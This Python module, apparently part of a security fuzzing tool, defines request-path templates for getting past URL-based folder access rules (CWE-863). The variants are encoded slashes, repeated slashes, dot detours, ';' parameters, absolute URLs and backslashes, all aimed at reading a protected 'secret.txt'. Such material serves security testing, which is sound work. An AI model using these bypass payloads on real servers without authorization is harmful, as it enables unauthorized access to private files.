"""Spellings of a folder that a server serves the surroundings of, and keeps back itself."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.registry import Kind, techniques_for

request = techniques_for(Kind.REQUEST, "http")
_NEEDS = "keeps a folder back by the text of the URL, and opens what it comes to mean"
_REFS = ("CVE-2026-29087",)


@request(
    "request-private",
    group="request-private",
    cwe="CWE-863",
    needs="does not keep the folder back at all",
    refs=_REFS,
)
def request_private() -> Iterator[str]:
    """Ask for a file in the folder that is kept back, plainly."""
    yield "{prefix}{private}/secret.txt"
    yield "{prefix}{private}/secret.txt?x=1"


@request(
    "request-private-encoded",
    group="request-private-spelling",
    cwe="CWE-863",
    needs=_NEEDS,
    refs=_REFS,
)
def request_private_encoded() -> Iterator[str]:
    """Encode the slash behind the folder's name, the one before it, or the name itself."""
    yield "{prefix}{private}%2fsecret.txt"
    yield "{prefix}{private}%2Fsecret.txt"
    yield "{prefix}/{encoded}/secret.txt"
    yield "{prefix}%2f{encoded}%2fsecret.txt"
    yield "{prefix}/{encoded}%2fsecret.txt"


@request(
    "request-private-slashes",
    group="request-private-spelling",
    cwe="CWE-863",
    needs=_NEEDS,
    refs=("CVE-2026-29087",),
)
def request_private_slashes() -> Iterator[str]:
    """Repeat slashes before, inside and behind what the rule names."""
    yield "{prefix}/{private}/secret.txt"
    yield "/{prefix}{private}/secret.txt"
    yield "{prefix}{private}//secret.txt"
    yield "{prefix}//{private}//secret.txt"


@request(
    "request-private-dots",
    group="request-private-spelling",
    cwe="CWE-863",
    needs=_NEEDS,
)
def request_private_dots() -> Iterator[str]:
    """Go to the folder by a detour of dots, plain and encoded."""
    yield "{prefix}/.{private}/secret.txt"
    yield "{prefix}/sub/..{private}/secret.txt"
    yield "{prefix}/%2e{private}/secret.txt"
    yield "{prefix}/sub/%2e%2e{private}/secret.txt"
    yield "{prefix}{private}/./secret.txt"
    yield "/.{prefix}{private}/secret.txt"


@request(
    "request-private-parameters",
    group="request-private-spelling",
    cwe="CWE-863",
    needs="matches the text with its ;parameters, and opens the path without them",
)
def request_private_parameters() -> Iterator[str]:
    """Put parameters behind the folder's name."""
    yield "{prefix}{private};/secret.txt"
    yield "{prefix}{private};a=b/secret.txt"
    yield "{prefix};a=b{private}/secret.txt"
    yield "{prefix}/;a=b{private}/secret.txt"


@request(
    "request-private-forms",
    group="request-private-spelling",
    cwe="CWE-863",
    needs=r"matches one form of request target, or takes \ for a separator after the match",
)
def request_private_forms() -> Iterator[str]:
    r"""Send the whole URL, or write ``\`` for ``/``."""
    yield "http://{host}{prefix}{private}/secret.txt"
    yield "http://{host}/{prefix}{private}/secret.txt"
    yield "{prefix}{private}\\secret.txt"
    yield "{prefix}\\{encoded}\\secret.txt"
    yield "{prefix}{private}%5csecret.txt"
